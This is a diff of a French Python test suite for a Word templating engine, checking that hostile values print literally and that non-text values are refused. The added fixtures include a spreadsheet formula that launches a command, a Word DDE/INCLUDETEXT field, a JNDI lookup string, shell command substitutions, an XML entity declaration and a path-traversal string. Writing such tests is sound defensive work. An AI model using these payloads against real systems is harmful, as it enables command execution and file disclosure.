@@ -1,6 +1,7 @@
 """Une donnée, si étrange soit-elle, s'imprime telle quelle et n'abîme jamais le document."""
 
 from datetime import UTC, date, datetime
+from decimal import Decimal
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -11,9 +12,11 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from documents.moteur.environnement import Environnement
+from documents.moteur.erreurs import ErreurGabarit
 from documents.moteur.gabarit import composer
 from documents.moteur.validite import fautes_word, paragraphes
 from tests.documents.fabriques_word import un_gabarit
+from tests.documents.validateur import erreurs_open_xml, sans_validateur
 
 HOSTILES = {
     "esperluette": ("CAF & CCAS", None),
@@ -39,6 +42,31 @@ HOSTILES = {
     "marque interne": ("\ufdd00\ufdd1", None),
     "vide": ("", None),
     "point-virgule": ("a;b&lt;c", None),
+    "accents décomposés": ("e\u0301te\u0301", None),
+    "empilement d'accents": ("z" + "\u0335\u0321\u0489" * 200, None),
+    "espaces sans largeur": ("a\u200b\u2060\ufeffb", None),
+    "séparateurs de lignes d'Unicode": ("a\u2028b\u2029c\x85d", None),
+    "contrôles du second jeu": ("a\x80\x9fb", None),
+    "non-caractères d'un autre plan": ("a\U0001fffe\U0010ffffb", None),
+    "usage privé": ("\ue000\uf8ff\U000f0000", None),
+    "mot sans fin": ("x" * 100_000, None),
+    "déclaration XML": ("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>&b;", None),
+    "champ de Word": ('{ INCLUDETEXT "http://pirate.invalid" } DDEAUTO', None),
+    "formule de tableur": ("=cmd|' /C calc'!A0", None),
+    "mise en forme": ("%s %n {0} ${jndi:ldap://x} $(id) `id`", None),
+    "antislashs": ("\\1 \\g<0> \\n \\u0041", None),
+    "repère du sommaire": ('<sommaire champ="TOC" titres="" entrees=""/>', None),
+    "chemin": ("../../etc/passwd\\..\\win.ini", None),
+}
+HOSTILES_NON_TEXTUELLES = {
+    "pas un nombre": (float("nan"), "ce nombre n'en est pas un"),
+    "infini": (float("-inf"), "ce nombre n'en est pas un"),
+    "décimal sans valeur": (Decimal("NaN"), "ce nombre n'en est pas un"),
+    "entier démesuré": (10**5_000, "cette balise ne convient pas à la donnée reçue"),
+    "octets": (b"abc", "cette donnée ne s'imprime pas telle quelle"),
+    "liste": (["a"], "cette donnée ne s'imprime pas telle quelle"),
+    "objet": (object(), "cette donnée ne s'imprime pas telle quelle"),
+    "fonction": (print, "cette donnée ne s'imprime pas telle quelle"),
 }
 
 
@@ -57,6 +85,28 @@ def test_une_valeur_hostile_s_imprime_sans_abimer_le_document(
     texte = valeur if attendu is None else attendu
     assert paragraphes(compose.octets) == [f"avant {texte} après", texte, "fixe"]
     assert fautes_word(compose.octets) == ()
+
+
+@pytest.mark.parametrize(
+    ("valeur", "attendu"), HOSTILES_NON_TEXTUELLES.values(), ids=HOSTILES_NON_TEXTUELLES.keys()
+)
+def test_une_valeur_qui_ne_s_imprime_pas_est_refusee_avec_sa_balise(
+    valeur: object, attendu: str, gabarit: Path
+) -> None:
+    with pytest.raises(ErreurGabarit) as refus:
+        composer(gabarit, {"x": valeur})
+
+    assert refus.value.fautes[0].message.startswith(attendu)
+    assert refus.value.fautes[0].balise == "{{ x }}"
+
+
+@sans_validateur
+def test_toutes_les_valeurs_hostiles_ensemble_font_un_document_conforme(tmp_path: Path) -> None:
+    gabarit = un_gabarit(tmp_path, "{%p for x in valeurs %}", "{{ x }}", "{%p endfor %}")
+
+    compose = composer(gabarit, {"valeurs": [valeur for valeur, _ in HOSTILES.values()]})
+
+    assert erreurs_open_xml(compose.octets) == []
 
 
 def test_une_balise_dans_une_donnee_n_est_pas_executee_mais_signalee(gabarit: Path) -> None:
